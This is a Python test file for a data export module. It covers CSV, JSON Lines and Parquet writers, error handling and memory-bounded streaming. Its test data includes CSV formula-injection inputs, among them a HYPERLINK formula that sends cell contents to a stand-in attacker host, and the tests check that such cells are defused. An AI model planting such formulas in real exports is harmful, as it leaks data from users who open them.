"""The export writers (engine.export): CSV with formula cells neutralised, JSON Lines, Parquet read back
with pyarrow, the format registry, and streaming: 100,000 rows written with a small, flat peak."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from engine.export import Column, ExportError, format_names, register, stream_rows, write_rows, writer_for
from engine.export.jsonl_format import JsonlWriter

COLUMNS = [Column("id", "string"), Column("paths", "strings"), Column("score", "float"),
           Column("rank_text", "integer"), Column("brand", "string"), Column("when", "datetime"),
           Column("has_text", "bool")]  # fmt: skip
ROWS = [
    {"id": "a", "paths": ["/ads/a.png", "/copy/a.png"], "score": 0.5, "rank_text": 1, "brand": "Audi",
     "when": "2014-03-01T00:00:00+00:00", "has_text": True},
    {"id": "b", "paths": ["/ads/b.png"], "score": 0.25, "rank_text": None, "brand": "BMW, \"the\" car",
     "when": None, "has_text": False},
    {"id": "c", "paths": [], "score": -1.5, "rank_text": 3},  # missing keys: empty cells
]  # fmt: skip
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
           "\t=1", "\r=1", "safe = text", "'quoted"]  # fmt: skip


def csv_of(rows, columns=COLUMNS) -> list[dict]:
    data = b"".join(stream_rows(iter(rows), columns, "csv")).decode("utf-8")
    return list(csv.DictReader(io.StringIO(data, newline="")))


def test_csv_neutralises_formula_cells_and_keeps_the_rest_exact():
    rows = [{"id": str(i), "paths": [text], "brand": text} for i, text in enumerate(HOSTILE)]
    read = csv_of(rows)
    for text, row in zip(HOSTILE, read, strict=True):
        dangerous = text[0] in "=+-@\t\r"
        assert row["brand"] == ("'" + text if dangerous else text)
        assert row["paths"] == row["brand"]  # a list cell is neutralised as a whole
    assert not any(row["brand"][0] in "=+-@\t\r" for row in read)


def test_csv_cells_lists_numbers_and_empty_values():
    read = csv_of(ROWS)
    assert list(read[0]) == [c.name for c in COLUMNS]
    assert read[0]["paths"] == "/ads/a.png;/copy/a.png" and read[0]["has_text"] == "true"
    assert read[1]["brand"] == 'BMW, "the" car' and read[1]["rank_text"] == "" and read[1]["when"] == ""
    assert read[2]["score"] == "-1.5"  # a number is not a formula: no quote added
    assert read[2]["paths"] == "" and read[2]["brand"] == ""


def test_jsonl_is_one_object_per_row_with_every_column_in_order():
    data = b"".join(stream_rows(iter(ROWS), COLUMNS, "jsonl")).decode("utf-8")
    lines = data.splitlines()
    assert len(lines) == len(ROWS)
    records = [json.loads(line) for line in lines]
    assert [list(r) for r in records] == [[c.name for c in COLUMNS]] * len(ROWS)
    assert records[0]["paths"] == ["/ads/a.png", "/copy/a.png"] and records[2]["brand"] is None
    assert records[1]["brand"] == 'BMW, "the" car' and records[0]["has_text"] is True


def test_parquet_reads_back_typed_and_equal_to_the_rows(tmp_path):
    out = tmp_path / "t.parquet"
    assert write_rows(ROWS, COLUMNS, "parquet", out) == len(ROWS)
    table = pq.read_table(out)
    assert table.schema.field("paths").type == pa.list_(pa.string())
    assert table.schema.field("rank_text").type == pa.int64()
    assert table.schema.field("when").type == pa.timestamp("us", tz="UTC")
    back = table.to_pylist()
    assert [r["id"] for r in back] == ["a", "b", "c"]
    assert back[0]["when"] == datetime(2014, 3, 1, tzinfo=UTC)
    for got, row in zip(back, ROWS, strict=True):
        for column in COLUMNS:
            if column.name != "when":
                assert got[column.name] == row.get(column.name), column.name
    assert not list(tmp_path.glob(".*partial"))  # written beside, then renamed


def test_untyped_columns_take_the_types_of_the_first_rows_and_an_empty_table_has_its_columns(tmp_path):
    rows = [{"period": "2024-01", "count": 3, "share": 0.5}, {"period": "2024-02", "count": 0, "share": 0.0}]
    write_rows(rows, ["period", "count", "share"], "parquet", tmp_path / "t.parquet")
    table = pq.read_table(tmp_path / "t.parquet")
    assert table.schema.field("count").type == pa.int64() and table.to_pylist() == rows
    write_rows([], ["period", "count"], "parquet", tmp_path / "empty.parquet")
    assert pq.read_table(tmp_path / "empty.parquet").column_names == ["period", "count"]
    assert csv_of([], [Column("period"), Column("count")]) == []


def test_bad_formats_files_and_columns_are_clear_errors(tmp_path):
    with pytest.raises(ExportError, match="unknown export format 'xml': use one of csv, jsonl, parquet"):
        writer_for("xml")
    with pytest.raises(ExportError, match="cannot write"):
        write_rows(ROWS, COLUMNS, "csv", tmp_path / "missing" / "x.csv")
    with pytest.raises(ExportError, match="distinct"):
        write_rows(ROWS, ["id", "id"], "csv", tmp_path / "x.csv")
    with pytest.raises(ExportError, match="binary format"):
        write_rows(ROWS, COLUMNS, "parquet", None)
    with pytest.raises(ValueError, match="registered twice"):
        register(JsonlWriter)
    assert format_names()[:3] == ("csv", "jsonl", "parquet")
    assert writer_for("parquet").suffix == ".parquet"
    assert writer_for("csv").media_type == "text/csv; charset=utf-8"


def test_a_failed_export_leaves_no_file_under_the_name(tmp_path):
    def rows():
        yield ROWS[0]
        raise RuntimeError("the source broke")

    with pytest.raises(RuntimeError):
        write_rows(rows(), COLUMNS, "csv", tmp_path / "x.csv")
    assert list(tmp_path.iterdir()) == []


BIG = 100_000


def big_rows():
    """BIG generated rows of about 200 bytes each (20 MB of CSV): never a list."""
    for i in range(BIG):
        yield {"id": f"{i:08x}-0000-4000-8000-000000000000", "paths": [f"/ads/folder-{i % 97}/ad-{i}.png"],
               "score": 1 / (i + 1), "rank_text": i + 1, "brand": f"brand {i % 13}",
               "when": "2020-01-01T00:00:00+00:00", "has_text": i % 2 == 0}  # fmt: skip


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_100k_rows_stream_with_a_small_flat_peak(fmt, tmp_path):
    """The peak of Python allocations while writing 100,000 rows stays a small fraction of the output:
    rows are written as they come (parquet: one row group of 2,000 at a time)."""
    tracemalloc.start()
    try:
        written = write_rows(big_rows(), COLUMNS, fmt, tmp_path / f"big.{fmt}")
        _, file_peak = tracemalloc.get_traced_memory()
        tracemalloc.reset_peak()
        sent = sum(len(chunk) for chunk in stream_rows(big_rows(), COLUMNS, fmt))
        _, stream_peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    size = (tmp_path / f"big.{fmt}").stat().st_size
    assert written == BIG
    if fmt != "parquet":  # the same bytes through the file and the HTTP path (parquet: its own metadata)
        assert sent == size
    assert max(file_peak, stream_peak) < 6 * 2**20, (file_peak, stream_peak)
    if fmt != "parquet":
        assert size > 12 * 2**20  # the bound above is well below what holding the rows would take
    else:
        assert pq.read_metadata(tmp_path / "big.parquet").num_rows == BIG
        assert pq.read_metadata(tmp_path / "big.parquet").num_row_groups == BIG // 2000
